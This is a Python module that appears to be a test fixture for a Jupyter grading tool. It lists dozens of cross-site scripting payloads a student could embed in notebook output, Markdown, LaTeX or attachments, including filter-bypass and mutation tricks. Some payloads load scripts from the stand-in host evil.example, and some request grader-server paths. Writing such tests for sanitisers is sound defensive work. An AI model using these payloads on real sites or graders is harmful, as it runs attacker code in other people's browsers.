"""What a student could write to have something run in the browser of whoever looks at it.

Each payload calls `alert`, changes the title, or asks another host, or the Jupyter server itself, for something.
"""

import base64

EVIL = "https://evil.example"
# ruff: noqa: E501
RUN = "document.title='pwned';alert(1)"


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SCRIPT = f"<script>{RUN}</script>"
DRAWING = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'

# HTML, which is tried as an output, as Markdown, as an answer and as a drawing.
HTML = {
    "script": SCRIPT,
    "script from elsewhere": f'<script src="{EVIL}/1.js"></script>',
    "module": f'<script type="module">import "{EVIL}/2.js"; {RUN}</script>',
    "settings of MathJax": f'<script type="text/x-mathjax-config">{RUN}</script>',
    "image with onerror": f'<img src=x onerror="{RUN}">',
    "slash for a space": f"<img/src=x/onerror={RUN}>",
    "newline and capitals": f"<iMg sRc=x\noNeRrOr={RUN}>",
    "image from elsewhere": f'<img src="{EVIL}/3.png" srcset="{EVIL}/4.png 2x">',
    "image of the server": '<img src="/formgrader?path=/tmp/of-a-student">',
    "body with onload": f'<body onload="{RUN}">',
    "drawing with onload": f'<svg onload="{RUN}">',
    "drawing with a script": f"<svg><script>{RUN}</script></svg>",
    "animated address": f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>press</text></a></svg>",
    "animation that begins": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "set of a drawing": f'<svg><set attributeName=onmouseover to="{RUN}"><rect width=99 height=99></svg>',
    "use of another drawing": f'<svg><use href="data:image/svg+xml;base64,{_encoded(DRAWING)}#x"></use></svg>',
    "image in a drawing": f'<svg><image href="{EVIL}/5.png" width=9 height=9></image></svg>',
    "foreign object": f'<svg><foreignObject><iframe srcdoc="{SCRIPT}"></iframe></foreignObject></svg>',
    "link in mathematics": f'<math><maction actiontype=statusline xlink:href="javascript:{RUN}">press</maction></math>',
    "link": f'<a href="javascript:{RUN}">press</a>',
    "link with entities": f'<a href="&#106;ava&Tab;script&colon;{RUN}">press</a>',
    "link with a newline": f'<a href=" java\nscript:{RUN}">press</a>',
    "link to data": f'<a href="data:text/html;base64,{_encoded(SCRIPT)}" target=_self>press</a>',
    "style with an address": f'<div style="background:url({EVIL}/6.png)">x</div>',
    "style sheet": f'<style>@import "{EVIL}/7.css"; body {{background: url({EVIL}/8.png)}}</style>',
    "linked style sheet": f'<link rel=stylesheet href="{EVIL}/9.css"><link rel=preload as=image href="{EVIL}/10.png">',
    "frame with a page": f'<iframe srcdoc="{SCRIPT}"></iframe>',
    "frame with a script": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "form": f'<form action="{EVIL}/11"><input name=x autofocus onfocus="{RUN}"><button>press</button></form>',
    "button with an action": f'<form id=f></form><button form=f formaction="javascript:{RUN}">press</button>',
    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/12">',
    "base": f'<base href="{EVIL}/"><script src="13.js"></script>',
    "object": f'<object data="data:text/html;base64,{_encoded(SCRIPT)}"></object>',
    "embedded": f'<embed src="{EVIL}/14.swf"><embed type=text/html src="javascript:{RUN}">',
    "details that open": f'<details open ontoggle="{RUN}"><summary>press</summary>x</details>',
    "film and sound": f'<video src="{EVIL}/15.mp4" onerror="{RUN}" autoplay></video><audio src={EVIL}/16.mp3 autoplay>',
    "poster": f'<video poster="{EVIL}/17.png"></video>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "mouse": f'<div onmouseover="{RUN}" onclick="{RUN}">press</div>',
    "mutation in a form": f'<math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
    "mutation in mathematics": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    ),
    "mutation in a drawing": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mutation without scripts": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "template": f'<template shadowrootmode=open><img src=x onerror="{RUN}"></template>',
    "textarea": f'<textarea><img title="</textarea><img src=x onerror={RUN}>"></textarea>',
    "title": f"<title>pwned</title><svg><title><img src=x onerror={RUN}></title></svg>",
    "comment": f"<!--><img src=x onerror={RUN}>--><![CDATA[<img src=x onerror={RUN}>]]>",
    "nested": f"<<script>script>{RUN}<</script>/script><scr<script>ipt>{RUN}</script>",
    "tooltip of the page": (
        f"<a class='name-shown' data-toggle='tooltip' data-html='true' title='&lt;img src=x onerror={RUN}&gt;'>press</a>"
    ),
    "names of the page": "<form id=submission_id><input name=base_url></form><img name=base_url><a id=assignment_id></a>",
    "popover": f'<button popovertarget=p>press</button><div id=p popover onbeforetoggle="{RUN}">x</div>',
    "animation of a style": f'<div style="animation:x 1s" onanimationstart="{RUN}">x</div><style>@keyframes x{{}}</style>',
    "import of a fenced frame": f'<portal src="{EVIL}/18"></portal><fencedframe src="{EVIL}/19"></fencedframe>',
}
MARKDOWN = {
    "Markdown link": f"[press](javascript:{RUN})",
    "Markdown link with entities": f"[press](java&#115;cript&colon;{RUN})",
    "Markdown link to the server": "[press](/formgrader?path=/tmp/of-a-student)",
    "Markdown reference": f"[press][a]\n\n[a]: <javascript:{RUN}>",
    "Markdown address": f"<javascript:{RUN}> <data:text/html;base64,{_encoded(SCRIPT)}>",
    "Markdown image": f'![x]({EVIL}/20.png) ![x](x"onerror="{RUN})',
    "Markdown code": f'```"><img src=x onerror={RUN}>\nx\n```\n\n```mermaid\nclick A "javascript:{RUN}"\n```',
    "heading": f"# <img src=x onerror={RUN}>",
    "table": f"|a|\n|-|\n|<img src=x onerror={RUN}>|",
    "formula": f"$<img src=x onerror={RUN}>$ $$\n\\href{{javascript:{RUN}}}{{press}}\n$$",
    "macro": f"$\\require{{{EVIL}/21.js}}$ $\\style{{background:url({EVIL}/22.png)}}{{x}}$ $\\href{{javascript:{RUN}}}{{press}}$",
    "unknown environment": f"\\begin{{a}}<img src=x onerror={RUN}>\\end{{a}}",
    "attachment": "![x](attachment:a.svg) ![x](attachment:b.png) ![x](attachment:c.html) ![x](attachment:gone.png)",
}
ATTACHMENTS = {
    "a.svg": {"image/svg+xml": _encoded(DRAWING)},
    "b.png": {"image/png": f'x" onerror="{RUN}'},
    "c.html": {"text/html": _encoded(SCRIPT)},
}
# Code of the student's that shows each of them in all ways.
CODE = f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display

run, script, drawing = {RUN!r}, {SCRIPT!r}, {DRAWING!r}
for payload in PAYLOADS:
    display(HTML(payload))
    display(Markdown(payload))
    display({{"image/svg+xml": payload, "text/html": payload}}, raw=True)
    display({{"text/latex": payload}}, raw=True)
    display({{"image/svg+xml": payload}}, raw=True)
    print(payload)
display(Javascript(run), SVG(drawing), Latex(r"$\\href{{javascript:alert(1)}}{{press}}$"))
display({{"image/png": f'x" onerror="{{run}}'}}, raw=True, metadata={{"image/png": {{"width": f"1 onerror={{run}}"}}}})
display({{"image/png": "iVBORw0KGgo="}}, raw=True, metadata={{"image/png": {{"width": f"1 onerror={{run}}"}}}})
display({{"text/html": script}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
display({{"application/javascript": run, "application/vnd.jupyter.widget-view+json": {{}}}}, raw=True)
display({{"text/vnd.mermaid": "graph TD; click A call alert(1)"}}, raw=True)
error = type(f"<img src=x onerror={{run}}>", (Exception,), {{}})
raise error(script + "\\x1b]8;;javascript:alert(1)\\x07press\\x1b[31m" + script)
"""
